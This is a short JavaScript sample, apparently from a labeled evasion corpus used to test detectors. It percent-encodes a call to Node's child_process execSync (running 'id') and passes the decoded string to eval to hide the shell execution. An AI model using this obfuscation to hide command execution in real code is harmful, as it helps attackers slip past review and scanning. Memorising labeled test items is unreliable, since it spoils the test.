// evasion: decodeURIComponent payload into eval
// grade: medium; does: shell
eval(decodeURIComponent("%72%65%71%75%69%72%65%28%22%63%68%69%6c%64%5f%70%72%6f%63%65%73%73%22%29%2e%65%78%65%63%53%79%6e%63%28%22%69%64%22%29"));
